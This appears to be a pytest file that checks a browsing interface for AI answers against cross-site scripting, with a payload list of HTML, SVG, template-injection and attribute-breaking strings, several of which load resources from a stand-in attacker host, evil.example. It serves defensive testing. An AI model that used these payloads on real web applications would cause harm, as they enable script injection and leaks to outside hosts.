"""Hostile text wherever text is shown: a real browser runs nothing and asks no other host."""

from collections.abc import Callable

import pytest
from browsing import Reader, Site, sentences
from fake_briefings import Briefing, Failure

PAYLOADS = (
    "<img src=x onerror=window.__pwned=1>",
    "<img src=http://evil.example/beacon.png>",
    "<script>window.__pwned=1</script>",
    "<script src=http://evil.example/x.js></script>",
    "![alt](http://evil.example/x.png)",
    "[click](javascript:window.__pwned=1)",
    "<a href='javascript:window.__pwned=1'>link</a>",
    "${window.__pwned=1}",
    "`${alert(1)}`",
    "`+(window.__pwned=1)+`",
    "{{7*7}} {{{value}}} {{#each value}}{{this}}{{/each}}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<math><mtext></table><img src=x onerror=window.__pwned=1>",
    '" onmouseover="window.__pwned=1" x="',
    "' onfocus='window.__pwned=1' autofocus='",
    '"><img src=x onerror=window.__pwned=1>',
    "'><svg/onload=window.__pwned=1>",
    "</h2></article><iframe src=http://evil.example></iframe>",
    "</textarea></title><img src=x onerror=window.__pwned=1>",
    "<style>@import 'http://evil.example/x.css';*{background:url(http://evil.example/y)}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><button>go</button></form>",
    "<details open ontoggle=window.__pwned=1>",
    "<video src=http://evil.example/v onerror=window.__pwned=1 autoplay>",
    "<object data=http://evil.example/o></object>",
    "<input autofocus onfocus=window.__pwned=1>",
    "&lt;img src=x onerror=window.__pwned=1&gt;",
    "<!--><img src=x onerror=window.__pwned=1>-->",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'>",
    "\u202e<img src=x onerror=window.__pwned=1>\u2028",
    "\\u003cimg src=x onerror=window.__pwned=1\\u003e",
)


def hostile(number: int, payload: str) -> Briefing:
    """A briefing that carries one payload in its name, title, source, heading, text and tables."""
    name = payload.replace("/", "∕").replace("\x00", "")
    notation = "\n\n".join(
        (
            f"# {payload}",
            f"Marker{number} sentence about harbour seals says {payload} and more.",
            f"- Item {payload}",
            f"| Cell {payload} | other {payload}",
        )
    )
    return Briefing(f"{name}/{name} {number}.md", payload, notation, None, payload)


BRIEFINGS = tuple(hostile(number, payload) for number, payload in enumerate(PAYLOADS))
FAILURES = tuple(
    Failure(b.path, "damaged", payload) for b, payload in zip(BRIEFINGS, PAYLOADS, strict=True)
)


@pytest.fixture(scope="module")
def hostile_site(serve: Callable[..., Site]) -> Site:
    return serve(BRIEFINGS, FAILURES)


@pytest.fixture
def victim(reading: Callable[..., Reader], hostile_site: Site) -> Reader:
    hostile_site.assistant.says = ""
    return reading(hostile_site.url)


def assert_unharmed(victim: Reader, site: Site) -> None:
    assert victim.page.evaluate("window.__pwned") is None
    assert victim.dialogs == []
    assert victim.complaints == []
    assert [u for u in victim.requests if not u.startswith((site.url + "/", "data:"))] == []
    planted = ":is(img,script,iframe,svg,style,object,form,base,video,input,details,math,link,a)"
    for place in ("#turns", "#evidence", "#source .doc", "#source .shead", "#library"):
        assert victim.page.locator(f"{place} {planted}:not(.find input)").count() == 0


def test_texts_titles_and_names_are_shown_and_do_nothing(
    victim: Reader, hostile_site: Site
) -> None:
    for number, payload in enumerate(PAYLOADS):
        turn = victim.ask(f"Marker{number} sentence about harbour seals?")
        assert payload in turn.locator(".a").text_content()
        assert payload in turn.locator(".notes").text_content()
        victim.page.wait_for_function(
            "payload => document.querySelector('#source .stitle').textContent === payload",
            arg=payload,
        )
        assert payload in victim.page.text_content("#source mark")
        assert payload in victim.page.text_content("#source .doc td")
        assert payload in victim.page.text_content("#source .sfacts")
    assert_unharmed(victim, hostile_site)


def test_questions_are_shown_and_do_nothing(victim: Reader, hostile_site: Site) -> None:
    for payload in PAYLOADS:
        turn = victim.ask(payload)
        assert turn.locator(".q").text_content() == payload.strip()
    assert victim.page.locator("#asked a").all_text_contents() == [p.strip() for p in PAYLOADS]
    assert_unharmed(victim, hostile_site)


def test_what_a_model_writes_is_shown_and_does_nothing(victim: Reader, hostile_site: Site) -> None:
    for number, payload in enumerate(PAYLOADS):
        hostile_site.assistant.says = payload
        turn = victim.ask(f"Marker{number} sentence about harbour seals?")
        assert sentences(turn)[0] == payload
        refused = victim.ask("Nothing of the kind?")
        assert refused.locator(".missing").text_content() == payload
    assert_unharmed(victim, hostile_site)


def test_the_library_and_the_limits_show_and_do_nothing(victim: Reader, hostile_site: Site) -> None:
    victim.page.click("nav [data-view=library]")
    victim.page.wait_for_selector(".ltable tbody tr")
    titles = victim.page.locator(".open-document").all_text_contents()
    assert sorted(titles) == sorted(PAYLOADS)
    assert victim.page.locator(".failures li").count() == len(PAYLOADS)
    options = victim.page.locator(".limit-document option").all_text_contents()
    assert sorted(options[1:]) == sorted(" ".join(p.split(" ")) for p in PAYLOADS)
    assert_unharmed(victim, hostile_site)


def test_a_planted_script_would_be_stopped_by_the_policy(victim: Reader) -> None:
    """The second line of defence, were the first one ever to fail."""
    outcome = victim.page.evaluate(
        """() => new Promise((resolve) => {
          const blocked = [];
          document.addEventListener('securitypolicyviolation', (e) => {
            blocked.push(`${e.effectiveDirective} ${e.blockedURI}`);
            if (blocked.length === 4) resolve(blocked.sort());
          });
          const script = document.createElement('script');
          script.textContent = 'window.__pwned = 1';
          // From a timer: the debugger, through which this test speaks, may evaluate.
          setTimeout(() => {
            document.querySelector('#turns').innerHTML = '<img src=x onerror="window.__pwned=1">';
            document.body.append(script);
            new Image().src = 'http://evil.example/x.png';
            try { new Function('window.__pwned = 1')(); } catch { /* refused */ }
          });
        })"""
    )
    assert outcome == [
        "img-src http://evil.example/x.png",
        "script-src eval",
        "script-src-attr inline",
        "script-src-elem inline",
    ]
    assert victim.page.evaluate("window.__pwned") is None
